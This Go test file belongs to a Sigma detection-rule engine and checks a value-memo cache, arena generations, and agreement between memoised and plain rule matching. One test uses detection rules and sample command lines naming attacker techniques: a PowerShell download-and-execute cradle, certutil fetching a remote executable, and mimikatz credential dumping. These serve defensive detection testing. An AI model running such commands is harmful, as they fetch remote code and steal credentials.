package sigma

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestValueMemo checks the memo's bookkeeping: values are remembered per
// group and compared in full, values too long for the arena are not
// remembered, and a value is admitted the second time it is seen.
func TestValueMemo(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		run  func(t *testing.T, m *valueMemo)
	}{
		{"remembered per group and value", func(t *testing.T, m *valueMemo) {
			m.store(1, "c:\\windows\\cmd.exe", m.key(1, "c:\\windows\\cmd.exe"), []int32{3, 7})
			if ids, ok := m.lookup(1, "c:\\windows\\cmd.exe", m.key(1, "c:\\windows\\cmd.exe")); !ok || !slices.Equal(ids, []int32{3, 7}) {
				t.Errorf("lookup = %v, %v", ids, ok)
			}
			if _, ok := m.lookup(2, "c:\\windows\\cmd.exe", m.key(2, "c:\\windows\\cmd.exe")); ok {
				t.Error("found under another group")
			}
			// The same hash with another value of the same length: the
			// value is compared in full.
			if _, ok := m.lookup(1, "c:\\windows\\cmd.exf", m.key(1, "c:\\windows\\cmd.exe")); ok {
				t.Error("found by hash alone")
			}
		}},
		{"no needles is an answer too", func(t *testing.T, m *valueMemo) {
			m.store(1, "notepad.exe", m.key(1, "notepad.exe"), nil)
			if ids, ok := m.lookup(1, "notepad.exe", m.key(1, "notepad.exe")); !ok || len(ids) != 0 {
				t.Errorf("lookup = %v, %v", ids, ok)
			}
		}},
		{"too long for the arena", func(t *testing.T, m *valueMemo) {
			v := strings.Repeat("x", 100)
			m.store(0, v, m.key(0, v), []int32{1})
			if _, ok := m.lookup(0, v, m.key(0, v)); ok {
				t.Error("a value longer than the arena was remembered")
			}
		}},
		{"admitted when seen twice", func(t *testing.T, m *valueMemo) {
			h := m.key(0, "once")
			if m.admit(h) {
				t.Error("admitted when first seen")
			}
			if !m.admit(h) {
				t.Error("not admitted when seen again")
			}
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tc.run(t, newValueMemo(64, 96))
		})
	}
}

// TestValueMemoGenerations checks that values used again are carried into
// the next generation of the memo's arenas while the others are forgotten.
func TestValueMemoGenerations(t *testing.T) {
	t.Parallel()
	m := newValueMemo(64, 96)
	// Eight values of 8 bytes with one needle each fill a generation's
	// 96-byte arena; each further value then starts a new generation.
	// value-00 is used in every generation, so it is carried over; the
	// others are forgotten two generations after they were stored.
	val := func(i int) string { return fmt.Sprintf("value-%02d", i) }
	lookup := func(i int) bool {
		ids, ok := m.lookup(0, val(i), m.key(0, val(i)))
		if ok && !slices.Equal(ids, []int32{int32(i)}) {
			t.Errorf("%s: ids %v", val(i), ids)
		}
		return ok
	}
	for i := range 40 {
		m.store(0, val(i), m.key(0, val(i)), []int32{int32(i)})
		if !lookup(0) {
			t.Fatalf("value-00 forgotten after storing %s", val(i))
		}
	}
	for _, i := range []int{1, 2, 10, 20} {
		if lookup(i) {
			t.Errorf("%s remembered three generations on", val(i))
		}
	}
	if !lookup(39) {
		t.Error("the last value stored is not remembered")
	}
}

// TestMemoAgreesWithScanning evaluates rules whose needles span every kind
// of automaton on events drawn from a small set of values (so that most
// repeat, in random order, and some differ only in case or by a non-ASCII
// letter), with and without the value memo, and requires the same matches.
func TestMemoAgreesWithScanning(t *testing.T) {
	t.Parallel()
	rules := []*Rule{
		loadOne(t, ruleYAML("sel:\n  Image|endswith: ['\\cmd.exe', '\\powershell.exe']\n  CommandLine|contains: [' /c ', 'iex', 'downloadstring']\ncondition: sel"), LoadOptions{}),
		loadOne(t, ruleYAML("sel:\n  CommandLine|contains|all: ['-enc', 'hidden']\nfilter:\n  Image|startswith: 'c:\\program files\\'\ncondition: sel and not filter"), LoadOptions{}),
		loadOne(t, ruleYAML("sel:\n  Image: 'C:\\Windows\\System32\\whoami.exe'\ncondition: sel"), LoadOptions{}),
		loadOne(t, ruleYAML("sel:\n  CommandLine|re|i: 'certutil.*-urlcache'\ncondition: sel"), LoadOptions{}),
		loadOne(t, ruleYAML("sel:\n  CommandLine|contains: 'ärger'\ncondition: sel"), LoadOptions{}),
		loadOne(t, ruleYAML("keywords:\n  - 'mimikatz'\n  - 'sekurlsa::'\ncondition: keywords"), LoadOptions{}),
	}
	images := []string{`C:\Windows\System32\cmd.exe`, `C:\WINDOWS\system32\WindowsPowerShell\v1.0\powershell.exe`,
		`C:\Windows\System32\whoami.exe`, `C:\Program Files\Tool\cmd.exe`, `C:\Windows\System32\certutil.exe`}
	cmds := []string{`cmd.exe /c whoami`, `powershell -enc AAAA -w hidden`, `powershell IEX (New-Object Net.WebClient).DownloadString('x')`,
		`certutil -URLCACHE -f http://x/a.exe`, `notepad.exe C:\Users\a\ÄRGER.txt`, `cmd.exe /C sekurlsa::logonpasswords`,
		`plain command line of some length`, `\u212Aeyboard İnput /c`}
	r := rand.New(rand.NewPCG(3, 4))
	withMemo, err := NewEngine(rules, newTestMapping(t))
	if err != nil {
		t.Fatal(err)
	}
	memoSt, plainSt := newEvalState(withMemo), newEvalState(withMemo)
	plainSt.memo = nil
	matched := 0
	for i := range 3000 {
		ev := testEvent("EventID", "1", "Image", images[r.IntN(len(images))], "CommandLine", cmds[r.IntN(len(cmds))])
		var got, want []*Rule
		for _, c := range []struct {
			st  *evalState
			out *[]*Rule
		}{{memoSt, &got}, {plainSt, &want}} {
			c.st.begin(ev)
			if rt := withMemo.route(c.st); rt != nil {
				c.st.evalRoute(rt, func(r *Rule) { *c.out = append(*c.out, r) })
			}
			c.st.end()
		}
		if !slices.Equal(got, want) {
			t.Fatalf("event %d %v: with the memo %d matches, without %d", i, ev.Fields, len(got), len(want))
		}
		matched += len(got)
	}
	if matched == 0 {
		t.Error("no event matched")
	}
}

// TestHasRun checks the skipping run test against a byte-by-byte count.
func TestHasRun(t *testing.T) {
	t.Parallel()
	var hex [4]uint64
	for _, c := range "0123456789abcdef" {
		hex[c>>6] |= 1 << (c & 63)
	}
	r := rand.New(rand.NewPCG(5, 6))
	for range 2000 {
		b := make([]byte, r.IntN(80))
		for i := range b {
			b[i] = "0123456789abcdef x"[r.IntN(18)]
		}
		s, n := string(b), 1+r.IntN(12)
		longest, run := 0, 0
		for i := range len(s) {
			if c := s[i]; hex[c>>6]&(1<<(c&63)) != 0 {
				run++
				longest = max(longest, run)
			} else {
				run = 0
			}
		}
		if got := hasRun(s, &hex, n); got != (longest >= n) {
			t.Fatalf("hasRun(%q, %d) = %v, longest run %d", s, n, got, longest)
		}
	}
}

// TestMemoSurvivesPoolDrops checks that the memo of a pooled state the
// garbage collector drops goes to the engine's stash, and that a new state
// takes it from there.
func TestMemoSurvivesPoolDrops(t *testing.T) {
	t.Parallel()
	e, err := NewEngine(nil, newTestMapping(t))
	if err != nil {
		t.Fatal(err)
	}
	m := e.pooledState().memo // the state itself is dropped at once
	var got *valueMemo
	for range 50 {
		runtime.GC()
		select {
		case got = <-e.memos:
		case <-time.After(10 * time.Millisecond):
			continue
		}
		break
	}
	if got != m {
		t.Fatalf("stash holds %p, want the dropped state's memo %p", got, m)
	}
	e.memos <- got
	if next := e.pooledState(); next.memo != m {
		t.Error("a new state did not take the stashed memo")
	}
}
